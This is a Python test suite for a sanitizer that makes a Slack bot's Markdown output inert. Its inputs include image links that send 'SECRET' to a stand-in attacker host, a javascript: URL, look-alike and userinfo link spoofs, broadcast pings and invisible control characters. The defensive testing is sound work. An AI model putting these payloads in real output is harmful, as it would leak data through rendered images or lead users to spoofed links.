"""Read the result with a Markdown parser of its own (markdown-it), not with our own rules."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.handlers.mrkdwn import LOOKAHEAD, Sanitizer, sanitize

ALLOWED = frozenset({"wiki.example.com"})
LINKIFIABLE = re.compile(
    r"[a-z]://|(?<![A-Za-z0-9])www\.\w|mailto:\w|[\w.+-]@[a-z0-9]|@(?:channel|here|everyone)",
    re.A | re.I,
)

FRAGMENTS = [
    *(
        "`",
        "``",
        "```",
        "````",
        "~~~",
        "\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "|",
        "\\",
        "*",
        "_",
        "a",
        "好",
    ),
    *("[", "]", "(", ")", "](", "]:", "!", "![", "<", ">", "&", "&lt;", "> ", "- ", "1. ", "# "),
    *("https://evil.com", "HTTP://evil.com/a(b)", "www.evil.com", "x://y", "://", "me@evil.com"),
    *("https://wiki.example.com", "https://wiki.example.com/p", "@evil.com", "\0", "\r", "\u202e"),
    *(
        "<!channel>",
        "<@U1>",
        "@channel",
        "@here",
        "[a](https://evil.com)",
        "![a](https://evil.com)",
    ),
    *(
        "[a](https://wiki.example.com/x)",
        "[a]: https://evil.com\n",
        "| a | b |\n|---|---|\n",
        "```py\n",
    ),
]
model_text = st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join)


def tokens(markdown: str) -> list[Token]:
    """All that a parser with tables sees, flattened."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    flat = []
    for token in parser.parse(markdown):
        flat += [token, *(token.children or [])]
    return flat


def active_parts(shown: str) -> list[str]:
    """Everything in a shown text that would be more than text: links, images, HTML, pings."""
    found = re.findall(r"<.{0,20}", shown)
    # Allowed URLs stand in plain text and Slack links them; what is left must not be linkable.
    bare_allowed = re.compile(r"(?<![A-Za-z0-9/.:@-])https://wiki\.example\.com/[\w./%&;:!-]*")
    for token in tokens(shown):
        if token.type == "text":
            found += LINKIFIABLE.findall(bare_allowed.sub("", token.content))
        elif token.type in ("image", "html_inline", "html_block"):
            found.append(token.type)
        elif token.type == "link_open":
            target = str(token.attrs["href"])
            found += [] if target.startswith("https://wiki.example.com/") else [target]
    return found


@settings(max_examples=1500, deadline=None)
@given(model_text)
def test_nothing_in_the_result_is_active_for_a_markdown_parser(text: str) -> None:
    assert active_parts(sanitize(text, ALLOWED)) == []


@settings(max_examples=600, deadline=None)
@given(model_text, st.data())
def test_every_way_of_cutting_the_input_gives_the_same_result(
    text: str, data: st.DataObject
) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    sanitizer = Sanitizer(ALLOWED)
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join(map(sanitizer.feed, pieces)) + sanitizer.close() == sanitize(text, ALLOWED)


@settings(max_examples=600, deadline=None)
@given(model_text)
def test_character_by_character_gives_the_same_result(text: str) -> None:
    sanitizer = Sanitizer(ALLOWED)
    assert "".join(map(sanitizer.feed, text)) + sanitizer.close() == sanitize(text, ALLOWED)


@given(st.text())
def test_any_text_at_all_is_read_without_an_error(text: str) -> None:
    sanitize(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<!channel> <@U1> <!subteam^S1>", "&lt;!channel> &lt;@U1> &lt;!subteam^S1>"),
        ("<https://evil.com|https://wiki>", "&lt;`https://evil.com`|`https://wiki`>"),
        ("R&D &lt;!here&gt;", "R&amp;D &amp;lt;!here&amp;gt;"),
        ("![a chart](https://evil.com/?q=SECRET)", "a chart"),
        ("![](https://evil.com/?q=SECRET)", ""),
        ("[wiki](https://evil.com/a)", "wiki (`https://evil.com/a`)"),
        ("[https://evil.com](https://evil.com)", "`https://evil.com`"),
        ("[x][1]\n\n[1]: https://evil.com", "[x][1]\n\n[1] : `https://evil.com`"),
        ("[a\nb](https://evil.com)", "[a\nb] (`https://evil.com`)"),
        ("(see https://evil.com/a?b=1).", "(see `https://evil.com/a?b=1`)."),
        ("见https://evil.com/a。谢谢", "见`https://evil.com/a`。谢谢"),
        ("www.evil.com mailto:a@evil.com", "`www.evil.com` `mailto:a@evil.com`"),
        ("slack://open ask me@evil.com", "slack`://open` ask me`@evil.com`"),
        ("**https://evil.com**", "**`https://evil.com`**"),
        ("@channel, @Here and @everyone", "@\u2060channel, @\u2060Here and @\u2060everyone"),
        ("a\0b\rc\u202ed\ud800e\x1b[0m", "abcde[0m"),
        ("👩\u200d💻", "👩\u200d💻"),
        ("> quoted", "> quoted"),
        ("w![w](x)w.evil.com", "w\u2060w\u2060w.evil.com"),
        ("https:\\//evil.com www\\.evil.com", "https:\u2060\\//evil.com www\u2060\\.evil.com"),
        ("@chan![](x)nel", "@chan\u2060nel"),
    ],
)
def test_text_comes_out_as(text: str, shown: str) -> None:
    assert sanitize(text, ALLOWED) == shown


@pytest.mark.parametrize(
    "target",
    [
        "https://wiki.example.com@evil.com",
        "https://evil.com/https://wiki.example.com/",
        "https://wiki.example.com.evil.com/",
        "https://wiki.example.com:8443/",
        "https://wiki.example.com\\@evil.com",
        "https:\\\\wiki.example.com",
        "http://wiki.example.com/",
        "https://wiki.example.com。evil.com",
        "https://wіki.example.com/",  # a Cyrillic letter
        "//wiki.example.com/",
        "javascript:alert(1)",
        "page.html",
    ],
)
def test_a_link_that_may_lead_elsewhere_is_only_shown(target: str) -> None:
    assert sanitize(f"[a]({target})", ALLOWED) == f"a (`{target}`)"


def test_links_to_allowed_hosts_stay_and_cannot_grow() -> None:
    text = "[Beta](https://WIKI.example.com/Beta_(finance)) https://wiki.example.com。evil.com"
    assert sanitize(text, ALLOWED) == (
        "[Beta](https://wiki.example.com/Beta_%28finance%29) https://wiki.example.com/。evil.com"
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("`https://evil.com`", "`https://evil.com`"),
        ("`foo https://evil.com", "'foo `https://evil.com`"),
        ("`foo\nhttps://evil.com`", "'foo\n`https://evil.com`'"),
        ("``a ` b``", "`a ' b`"),
        ("\\`https://evil.com\\`", "\\ `https://evil.com\\ `"),
        ("| `a | https://evil.com` |", "| `a `|` https://evil.com` |"),
        ("`int | None`", "`int `|` None`"),
        ("`a``b`", "`a''b`"),
        ("`<!channel>`", "`&lt;!channel>`"),
    ],
)
def test_inline_code_is_code_for_every_parser(text: str, shown: str) -> None:
    assert sanitize(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("```py\nx < `1` # https://a\n```\nend", "```py\nx &lt; `1` # https://a\n```\nend"),
        ("1. so:\n   ```py\n   if x:\n       y\n   ```\n", "1. so:\n```py\nif x:\n    y\n```\n"),
        ("so: ```\ncode\n```", "so: \n```\ncode\n```"),
        ("````md\n```\nhttps://a\n````\nhttps://b", "```md\n``'\nhttps://a\n```\n`https://b`"),
        ("```py\nleft open", "```py\nleft open\n```"),
        ("> ```\nhttps://evil.com", "> \n```\nhttps://evil.com\n```"),
        ("~~~\nhttps://evil.com\n~~~", "~~\n`https://evil.com`\n~~"),
    ],
)
def test_fenced_code_is_code_for_every_parser(text: str, shown: str) -> None:
    assert sanitize(text) == shown


@pytest.mark.parametrize("text", ["Plain words", "中文", "**bold** and", "see [1] and", "a > b"])
def test_plain_words_flow_at_once(text: str) -> None:
    assert Sanitizer().feed(text) == text


@pytest.mark.parametrize("opener", ["`", "[", "![a](", "https://", "www.", "me@", "```"])
def test_no_opener_holds_back_more_than_the_lookahead(opener: str) -> None:
    sanitizer = Sanitizer()
    sanitizer.feed(f"so {opener}")
    shown = "".join(sanitizer.feed("a" * 100) for _ in range(2 * LOOKAHEAD // 100))
    assert len(shown) >= LOOKAHEAD


def test_a_broadcast_split_over_two_chunks_stays_literal() -> None:
    sanitizer = Sanitizer()
    assert sanitizer.feed("<!cha") + sanitizer.feed("nnel> @cha") == "&lt;!channel> "
    assert sanitizer.feed("nnel!") == "@\u2060channel"


@pytest.mark.parametrize(
    "text",
    [
        "😀" * 10_000,
        "e\u0301" * 10_000,
        "[" * 100_000,
        "` " * 50_000,
        "[a](" * 25_000,
        "@" * 100_000,
        "".join("`" * (n % 60 + 1) + " " for n in range(4_000)),
        "www." * 25_000,
        "\n  ```" * 20_000,
    ],
)
def test_hostile_text_is_read_in_linear_time(text: str) -> None:
    started = time.perf_counter()
    sanitize(text, ALLOWED)
    assert time.perf_counter() - started < 1.0
